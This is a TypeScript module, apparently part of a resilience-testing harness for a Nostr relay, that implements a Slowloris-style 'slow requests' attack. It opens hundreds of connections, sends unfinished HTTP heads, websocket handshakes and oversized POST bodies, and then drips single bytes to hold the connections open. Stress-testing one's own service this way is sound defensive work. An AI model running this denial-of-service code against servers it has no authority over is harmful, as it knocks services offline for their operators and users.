/**
 * HTTP requests that come byte by byte: heads without an end, bodies without an end, handshakes that stop.
 * Runs in the process of whoever calls the trial; no state.
 *
 * @module
 */
import type { Attack } from "./attack.ts";

const CONNECTIONS = 300;
const DRIP_MS = 100;
const encoder = new TextEncoder();
const STARTS = [
  "",
  "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ",
  "GET / HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\n",
  "POST / HTTP/1.1\r\nHost: x\r\nContent-Type: application/nostr+json+rpc\r\nContent-Length: 60000\r\n\r\n",
].map((start) => encoder.encode(start));

/** See the module's text. */
export const slowRequests: Attack = {
  name: "slow requests",
  async run(stage) {
    const { hostname, port } = new URL(stage.relay.httpUrl);
    let open: Deno.TcpConn[] = [];
    for (let n = 0; n < stage.amount(CONNECTIONS, 20) && stage.goesOn; n++) {
      const connection = await Deno.connect({ hostname, port: Number(port) }).catch(() => null);
      if (connection === null) {
        stage.count("connection refused");
        continue;
      }
      stage.keep(() => connection.close());
      if (await connection.write(stage.prng.pick(STARTS)).catch(() => null) !== null) open.push(connection);
    }
    while (stage.goesOn && open.length > 0) {
      const drop = encoder.encode("x");
      const written = await Promise.all(open.map((connection) => connection.write(drop).catch(() => null)));
      const left = open.filter((_, at) => written[at] !== null);
      stage.count("slow request ended", open.length - left.length);
      open = left;
      await stage.pause(DRIP_MS);
    }
  },
};
